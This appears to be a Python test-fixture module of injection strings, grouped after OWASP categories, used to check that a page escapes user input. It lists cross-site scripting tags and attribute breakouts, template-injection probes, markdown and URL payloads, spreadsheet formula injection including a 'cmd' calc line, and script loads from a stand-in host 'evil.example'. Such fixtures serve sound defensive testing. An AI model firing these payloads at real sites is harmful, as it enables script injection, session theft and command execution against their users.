"""Strings that take over a page which does not escape, after the families of OWASP's list.

Each that runs calls `x()`, which the tests define; templates that compute would show 191*7919 as 1512529.
"""

SHORT = (
    "<b>x</b>",
    '"><u>x',
    "'><u>x",
    "</p><u>x",
    "{{191*7919}}",
    "${191*7919}",
    "@@body@@",
    "<u onclick=x()>",
    "<svg onload=x()>",
    "</script>",
    "</title>",
    "</style>",
    "<!--",
    "-->",
    "<![CDATA[",
    "&lt;u&gt;",
    "&#60;u&#62;",
    "\\x3cu\\x3e",
    "<x",
    "*a* _b_ `c`",
    "`x()`",
    "'-x()-'",
    '"-x()-"',
    "__proto__",
    "constructor",
)
"""For the fields that hold a name."""

TAGS = (
    "<script>x()</script>",
    "<ScRiPt>x()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,x()></script>",
    "<scr<script>ipt>x()</scr</script>ipt>",
    "<img src=x onerror=x()>",
    "<IMG SRC=x OnErRoR = x()>",
    "<img/src/onerror=x()>",
    "<img src=x onerror=&#120;&#40;&#41;>",
    "<svg onload=x()></svg>",
    "<svg/onload=x()>",
    "<svg><script>x()</script></svg>",
    "<svg><animate onbegin=x() attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:x()><text y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=x()></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></mtext></math>",
    "<math href=javascript:x()>x</math>",
    "<body onload=x()>",
    "<iframe src=javascript:x()></iframe>",
    "<iframe srcdoc='<script>parent.x()</script>'></iframe>",
    "<object data=javascript:x()></object>",
    "<embed src=javascript:x()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:x()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<form action=javascript:x()><button>x</button></form>",
    "<input autofocus onfocus=x()>",
    "<select autofocus onfocus=x()></select>",
    "<details open ontoggle=x()>x</details>",
    "<video><source onerror=x()></video>",
    "<audio src=x onerror=x()></audio>",
    "<marquee onstart=x()>x</marquee>",
    "<div style=animation:x onanimationstart=x()>x</div>",
    "<template><img src=x onerror=x()></template>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript>",
    "<textarea></textarea><img src=x onerror=x()>",
    "</textarea><img src=x onerror=x()>",
    "</title><script>x()</script>",
    "</style><script>x()</script>",
    "</script><script>x()</script>",
    "<!--<script>x()//-->",
    "--><img src=x onerror=x()><!--",
    "]]><img src=x onerror=x()>",
    "<a href=javascript:x()>x</a>",
    "<a href='java&#9;script:x()'>x</a>",
    "<a href=data:text/html,<script>x()</script>>x</a>",
    "<plaintext>",
)
"""New elements, and ways out of the one in which the text stands."""

ATTRIBUTES = (
    '" onmouseover="x()',
    "' onmouseover='x()",
    '" autofocus onfocus="x()" x="',
    '"><img src=x onerror=x()>',
    "'><img src=x onerror=x()>",
    '"><svg onload=x()>',
    "` onmouseover=x() `",
    '" style="position:fixed;inset:0" onclick="x()',
    'x" href="javascript:x()" x=\'',
    '" data-plotly="//evil.example/x.js',
)
"""Ways out of an attribute."""

SCRIPTS = (
    "';x();//",
    '";x();//',
    "\\';x();//",
    '"});x();({"a":"',
    "</script><svg onload=x()>",
    '{"__proto__":{"x":1}}',
    "\\u003cscript\\u003ex()\\u003c/script\\u003e",
    "javascript:x()",
    "JaVaScRiPt:x()",
    "vbscript:x()",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQueCgpPC9zY3JpcHQ+",
)
"""Ways out of a string of a script, and addresses that run."""

TEMPLATES = (
    "{{191*7919}} {{x()}}",
    "{% for a in ''.__class__.__mro__ %}{{191*7919}}{% endfor %}",
    "${191*7919} #{191*7919} <%= 191*7919 %>",
    "{{constructor.constructor('x()')()}}",
    "@@body@@ @@csp@@ @@title@@",
    "%s %(x)s {0.__class__} {x}",
)
"""What a template engine or a frame might fill in."""

MARKDOWN = (
    "[x](javascript:x())",
    "[x](JaVaScript&colon;x())",
    "[x](data:text/html,<script>x()</script>)",
    '[x](https://a.example/ "onmouseover=x()")',
    '![x](x"onerror="x())',
    '<https://a.example/"onmouseover=x()>',
    "<javascript:x()>",
    "[x]: javascript:x()",
    "`</code><img src=x onerror=x()>`",
    "~~~html <img src=x onerror=x()> ~~~",
    "# <img src=x onerror=x()>",
    "<b onclick=x()>x</b> <i>x</i>",
)
"""What notes might become when they are drawn."""

SHEETS = ('=HYPERLINK("//evil.example","x")', "+x()", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*x()", "\t=x()")
"""What a spreadsheet would run: text fields refuse it."""

HIDDEN = ("x\u2028x()", "x\u2029x()", "x\u202e()x", "x\u0000<b>", "x\u200b<b>", "\ufeff<b>")
"""Characters that nobody sees: text fields refuse them."""

LINKS = (
    "javascript:x()",
    "JaVaScRiPt:x()",
    "java\tscript:x()",
    " javascript:x()",
    "data:text/html,<script>x()</script>",
    "vbscript:x()",
    "//evil.example/",
    "http://evil.example/",
    "https:javascript:x()",
    'https://a.example/"onmouseover="x()',
    "https://a.example/'onmouseover='x()",
    "https://a.example/<script>x()</script>",
    "https://user:word@a.example/",
    "https://a.example\\@evil.example/",
    "files/../../x.html",
    "files/x.html",
    "files/x.svg",
    "https://a.example/?a=`x()`&b={{191*7919}}",
    "https://a.example/#${191*7919}%22%3E%3Cscript%3Ex()%3C/script%3E",
    "https://a.example/;javascript:x()//",
)
"""For fields that hold an address."""

TEXTS = (*TAGS, *ATTRIBUTES, *SCRIPTS, *TEMPLATES, *MARKDOWN, *SHORT)
"""All that a text might be; what is long does not fit every field."""

REFUSED = (*SHEETS, *HIDDEN)
